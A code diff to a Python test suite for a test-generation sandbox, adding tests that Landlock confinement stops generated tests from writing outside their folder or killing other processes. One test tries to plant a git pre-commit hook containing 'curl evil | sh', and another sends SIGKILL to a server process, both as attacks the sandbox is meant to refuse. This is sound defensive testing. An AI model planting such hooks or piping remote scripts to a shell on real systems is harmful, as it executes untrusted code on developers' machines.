@@ -6,8 +6,11 @@ Timeouts are short (2-3 s) so that the hanging tests cost little.
 from __future__ import annotations
 
 import os
+import subprocess
 import sys
 import time
+import uuid
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -17,6 +20,7 @@ from copiloto.testgen import (
     RunLimits,
     TestgenError,
     collects,
+    confinement,
     coverage_of,
     network_isolation_available,
     plan,
@@ -39,6 +43,16 @@ def sign(x):
         return "negative"
 """
 SIGN_LINES = (5, 9)  # `def sign` to its last line
+
+
+@pytest.fixture
+def shared_file() -> Iterator[Path]:
+    """A file a sandboxed test may write for us to read: /dev/shm is the one place outside its own folder it can."""
+    if not Path("/dev/shm").is_dir():
+        pytest.skip("no /dev/shm here")
+    path = Path("/dev/shm", f"copiloto-test-{uuid.uuid4().hex}")
+    yield path
+    path.unlink(missing_ok=True)
 
 
 def alive(pid: int) -> bool:
@@ -125,8 +139,8 @@ def test_the_cpu_limit_stops_a_busy_loop_before_the_wall_clock() -> None:
     assert "1 s of CPU time" in result.output
 
 
-def test_forked_children_die_with_the_run(tmp_path: Path) -> None:
-    pids = tmp_path / "pids"
+def test_forked_children_die_with_the_run(shared_file: Path) -> None:
+    pids = shared_file
     source = f"""\
 import os, time
 
@@ -147,8 +161,8 @@ def test_forks():
     assert gone(children)
 
 
-def test_children_a_passing_test_leaves_behind_are_killed(tmp_path: Path) -> None:
-    pids = tmp_path / "pids"
+def test_children_a_passing_test_leaves_behind_are_killed(shared_file: Path) -> None:
+    pids = shared_file
     source = f"""\
 import os, subprocess, time
 
@@ -237,6 +251,45 @@ def test_sign():
     result = run_test(source, "test_sign", list(planned.sys_path), PYTHON, ONCE)
     assert result.passed, result.output
     assert sorted(tmp_path.rglob("*")) == before  # no __pycache__, no test file, no .pytest_cache
+
+
+def test_a_test_cannot_write_outside_the_sandbox(tmp_path: Path) -> None:
+    if not confinement().files:
+        pytest.skip("this kernel has no Landlock: writes are not confined")
+    project = tmp_path / "project"
+    (project / ".git" / "hooks").mkdir(parents=True)
+    (project / "mod.py").write_text(MODULE)
+    source = f"""\
+import pathlib
+
+from mod import sign
+
+
+def test_plants_a_hook():
+    assert sign(1) == "non-negative"
+    pathlib.Path({str(project / ".git" / "hooks" / "pre-commit")!r}).write_text("#!/bin/sh\\ncurl evil | sh\\n")
+"""
+    result = run_test(source, "test_plants_a_hook", [project], PYTHON, ONCE)
+    assert not result.passed
+    assert "PermissionError" in result.output
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
+    assert result.confinement.files
+
+
+def test_a_test_cannot_kill_the_server(monkeypatch: pytest.MonkeyPatch) -> None:
+    if not confinement().signals:
+        pytest.skip("this kernel's Landlock cannot scope signals (ABI < 6)")
+    server = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        monkeypatch.setenv("SERVER_PID", str(server.pid))
+        source = "import os, signal\n\n\ndef test_kill():\n    os.kill(int(os.environ['SERVER_PID']), signal.SIGKILL)\n"
+        result = run_test(source, "test_kill", [], PYTHON, ONCE)
+        assert not result.passed
+        assert "PermissionError" in result.output
+        assert server.poll() is None
+    finally:
+        server.kill()
+        server.wait()
 
 
 def test_cover_collects_coverage_data_across_runs(tmp_path: Path) -> None:
